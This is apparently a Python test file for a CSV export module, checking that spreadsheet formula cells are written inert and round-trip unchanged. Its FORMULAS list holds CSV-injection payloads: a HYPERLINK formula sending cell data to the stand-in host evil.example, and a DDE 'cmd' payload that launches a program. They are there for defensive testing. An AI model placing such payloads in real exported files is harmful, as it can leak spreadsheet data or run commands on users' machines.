"""CSV cells a spreadsheet would run (#45 item 7): written inert, read back as they were.

`tasks.suites.cells` is what label files' CSV (`labels export`/`labels import`) is meant to
write and read through."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from tasks.suites.cells import cell_text, inert_cell

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "Paris")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
            "=cmd|' /C calc'!A0"]


def test_a_formula_cell_is_written_as_text_and_read_back_as_it_was() -> None:
    buf = io.StringIO()
    csv.writer(buf).writerow([inert_cell(f) for f in FORMULAS])  # "\r\n" rows: a cell with "\r" is quoted
    cells = next(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    # What a spreadsheet would evaluate: a cell starting with a formula character. None does.
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [cell_text(c) for c in cells] == FORMULAS


@given(st.text())
def test_every_string_round_trips(value: str) -> None:
    assert cell_text(inert_cell(value)) == value


def test_a_cell_a_spreadsheet_saved_without_its_apostrophe_reads_as_itself() -> None:
    for value in ("=1", "'quoted", "plain"):
        assert cell_text(value) == value
    assert cell_text(inert_cell("'quoted")) == "'quoted" and inert_cell("'quoted") == "''quoted"
